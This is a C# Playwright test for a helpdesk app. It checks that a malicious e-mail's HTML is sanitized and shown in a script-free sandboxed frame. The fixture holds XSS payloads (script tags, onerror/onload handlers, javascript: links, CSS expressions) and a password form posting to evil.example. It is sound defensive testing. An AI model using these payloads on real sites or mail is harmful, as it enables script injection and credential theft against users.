using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Helpdesk.FunctionApp.Tests.Support;
using Helpdesk.Web.Tests.Support;
using Microsoft.Playwright;

namespace Helpdesk.Web.Tests.Agents;

/// <summary>No script in a requester's e-mail ever runs in an agent's browser, and the agent still reads the message.</summary>
public sealed class MaliciousEmailTests(BrowserFixture browser) : IAsyncLifetime
{
    private RunningApp _app = null!;

    public async ValueTask InitializeAsync() => _app = await RunningApp.StartAsync();

    public async ValueTask DisposeAsync() => await _app.DisposeAsync();

    private const string Html =
        "<html><head><script>window.__pwned = 'head'; document.title = 'PWNED';</script>" +
        "<style>p { background: url(javascript:window.__pwned='css'); width: expression(window.__pwned='expr'); }</style></head>" +
        "<body onload=\"window.__pwned='onload'; parent.__pwned='onload'\">" +
        "<p>Bom dia, <b>segue o erro</b> do sistema.</p>" +
        "<img src=\"x\" onerror=\"window.__pwned='onerror'; top.__pwned='onerror'; top.document.title='PWNED'\">" +
        "<a id=\"link\" href=\"javascript:top.__pwned='link'\">clique aqui</a>" +
        "<svg><script>top.__pwned='svg'</script></svg>" +
        "<iframe src=\"javascript:top.__pwned='iframe'\"></iframe>" +
        "<form action=\"https://evil.example/steal\"><input name=\"senha\"></form>" +
        "<div style=\"width: expression(top.__pwned='style')\">estilo</div>" +
        "<script>top.__pwned = 'body'; top.document.title = 'PWNED';</script>" +
        "</body></html>";

    private static string MaliciousEmail() =>
        "From: Atacante <atacante@ifsp.edu.br>\r\n" +
        "To: suporte@helpdesk.local\r\n" +
        "Subject: Erro no sistema\r\n" +
        "Date: Tue, 24 Nov 2026 09:12:00 -0300\r\n" +
        "Message-ID: <malicious-1@ifsp.edu.br>\r\n" +
        "MIME-Version: 1.0\r\n" +
        "Content-Type: multipart/alternative; boundary=\"b1\"\r\n" +
        "\r\n" +
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nBom dia, segue o erro do sistema.\r\n" +
        "--b1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + Html + "\r\n" +
        "--b1--\r\n";

    [Fact]
    public async Task Scripts_handlers_javascript_links_and_css_expressions_in_an_email_never_run_in_the_agents_browser()
    {
        using var posted = await _app.PostEmailAsync(MaliciousEmail());
        Assert.Equal(HttpStatusCode.Created, posted.StatusCode);
        var protocol = (await posted.Content.ReadFromJsonAsync<JsonElement>(TestContext.Current.CancellationToken)).GetProperty("protocol").GetString()!;

        await using var context = await browser.SignedInAsync(_app.BaseAddress, "agent-l1", "ana.n1");
        var page = await context.NewPageAsync();
        var dialogs = 0;
        page.Dialog += (_, dialog) =>
        {
            dialogs++;
            _ = dialog.DismissAsync();
        };
        await page.GotoAsync("/api/app/tickets/" + protocol);

        // The agent reads the message: its text, and the formatted original in a sandboxed frame.
        await Assertions.Expect(page.Locator("ol.timeline")).ToContainTextAsync("Bom dia, segue o erro do sistema.");
        await page.GetByText("Ver a mensagem original formatada").ClickAsync();
        var frame = page.FrameLocator("iframe.mail-html");
        await Assertions.Expect(frame.GetByText("segue o erro")).ToBeVisibleAsync();
        await Assertions.Expect(frame.Locator("b")).ToHaveTextAsync("segue o erro");

        // Click the javascript: link too, and give any handler time to fire.
        await frame.GetByText("clique aqui").ClickAsync(new() { Force = true });
        await page.WaitForTimeoutAsync(500);

        Assert.Equal("Chamado " + protocol + " – Central de Atendimento", await page.TitleAsync());
        Assert.Equal("undefined", await page.EvaluateAsync<string>("() => typeof window.__pwned"));
        var inner = page.Frames.Single(f => f != page.MainFrame);
        Assert.Equal("undefined", await inner.EvaluateAsync<string>("() => typeof window.__pwned"));
        Assert.Equal(0, dialogs);

        // What reached the browser is the sanitized markup, inside a frame that may not run scripts at all.
        var iframe = page.Locator("iframe.mail-html");
        Assert.DoesNotContain("allow-scripts", await iframe.GetAttributeAsync("sandbox") ?? "allow-scripts", StringComparison.Ordinal);
        var srcdoc = (await iframe.GetAttributeAsync("srcdoc"))!;
        Assert.DoesNotContain("<script", srcdoc, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", srcdoc, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onload", srcdoc, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", srcdoc, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("expression(", srcdoc, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<form", srcdoc, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("<b>segue o erro</b>", srcdoc, StringComparison.Ordinal);
    }
}
